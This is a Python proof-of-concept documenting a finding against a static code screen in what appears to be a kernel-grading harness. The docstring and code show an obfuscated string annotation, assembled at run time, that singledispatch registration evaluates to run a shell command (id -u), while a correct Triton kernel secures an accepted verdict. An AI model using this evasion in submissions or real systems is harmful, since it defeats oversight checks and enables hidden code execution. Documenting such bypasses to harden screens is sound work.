"""Issue 33 finding 8: past the static screen through `functools.singledispatch`.

`register` called on a bare function reads its annotations with `typing.get_type_hints`,
which evaluates a string annotation as code in the function's globals (builtins
included). The screen checks string annotations written in the source; this one is built
at run time (no literal names anything), so no rule sees it. The string it evaluates
imports `os` and runs `id -u`, the start of any escape. It returns a correct output so
that only the screen stands between it and an accepted verdict."""

import functools

import torch
import triton
import triton.language as tl

_PARTS = ["_" * 2 + "imp", "ort" + "_" * 2, "('o", "s').sys", "tem('id -u >&2') or int"]
_ANNOTATION = "".join(_PARTS)


@functools.singledispatch
def _dispatch(arg):
    return arg


def _hidden(arg: _ANNOTATION):  # a str at run time, evaluated at `register`
    return arg


_dispatch.register(_hidden)


@triton.jit
def _copy(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y_ptr + offs, tl.load(x_ptr + offs, mask=offs < n), mask=offs < n)


def forward(x):
    y = torch.empty_like(x)
    _copy[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
    return y
